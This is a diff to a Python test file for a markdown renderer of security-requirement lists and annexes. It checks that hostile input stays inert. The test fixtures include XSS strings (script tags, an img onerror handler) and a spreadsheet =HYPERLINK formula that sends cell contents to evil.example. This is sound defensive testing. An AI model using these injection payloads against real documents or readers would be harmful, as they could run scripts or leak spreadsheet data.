@@ -123,9 +123,11 @@ def test_no_html_no_images_and_only_registry_links(path: str) -> None:
 def test_hostile_text_makes_no_structure_of_its_own() -> None:
     content = render_markdown.render(fixture_build())[list_file("urgent", "md")]
     html = PARSER.render(content.decode("utf-8"))
-    # Our own structure only: 1 title, 3 categories, 3 entries.
+    # Our own structure only: 1 title, the preamble and its 5 parts, 3 categories,
+    # 3 entries, the compliance matrix.
     headings = [t for t in tokens(content) if t.type == "heading_open"]
-    assert [h.tag for h in headings] == ["h1", "h2", "h3", "h2", "h3", "h2", "h3"]
+    assert [h.tag for h in headings] == ["h1", "h2"] + ["h3"] * 5 + [
+        "h2", "h3", "h2", "h3", "h2", "h3", "h2"]
     assert "<script" not in html and "<img" not in html and "<details" not in html
     assert "&lt;script&gt;alert('summary')&lt;/script&gt;" in html
     hrefs = [str(t.attrs["href"]) for t in tokens(content) if t.type == "link_open"]
@@ -137,15 +139,24 @@ def test_hostile_text_makes_no_structure_of_its_own() -> None:
             rows.append(0)
         elif token.type in ("th_open", "td_open"):
             rows[-1] += 1
-    assert rows and set(rows) == {4}
+    assert rows and set(rows) == {4, 8}  # category tables, the compliance matrix
     # Newlines in entry text were folded: the hostile '# not a heading' is inline text.
     assert "# not a heading" not in [line.strip() for line in html.splitlines()]
 
 
-def test_annex_numbers_requirements_and_lists_the_rest() -> None:
+def test_annex_heads_requirements_with_their_ids_and_lists_the_rest() -> None:
     content = render_markdown.render(fixture_build())[annex_file("website", "md")].decode()
-    assert "## Requirement 1: \\@SUM(1+1)" in content
-    assert "## Requirement 3: TLS: Transport Layer Security" in content
+    heads = [line for line in content.splitlines() if line.startswith("## IS3C-")]
+    assert heads == ["## IS3C-HOSTILE-TEXT: \\@SUM(1+1) \\<img src=x onerror=alert(\"short\")\\>: "
+                     "=HYPERLINK(\"https\\://evil.example/?leak=\"\\&A1,\"Click me\") "
+                     "\\<script\\>alert(\"title\")\\</script\\>",
+                     "## IS3C-DNSSEC: DNSSEC: Domain Name System Security Extensions",
+                     "## IS3C-TLS: TLS: Transport Layer Security"]
+    assert "Requirement 1" not in content  # positions change between releases; ids do not
+    assert "RFC 2119 and RFC 8174" in content and "burden of showing equivalence" in content
+    matrix = content.split("## Compliance matrix")[1]
+    assert [line.split(" | ")[0] for line in matrix.splitlines() if line.startswith("| IS3C-")] == [
+        "| IS3C-HOSTILE-TEXT", "| IS3C-DNSSEC", "| IS3C-TLS"]
     assert "## Also applicable (no tender clause agreed yet)" in content
     assert f"{HOSTILE_ID}" not in content.split("## Also applicable")[1]
     empty = render_markdown.render(fixture_build())[annex_file("software", "md")].decode()
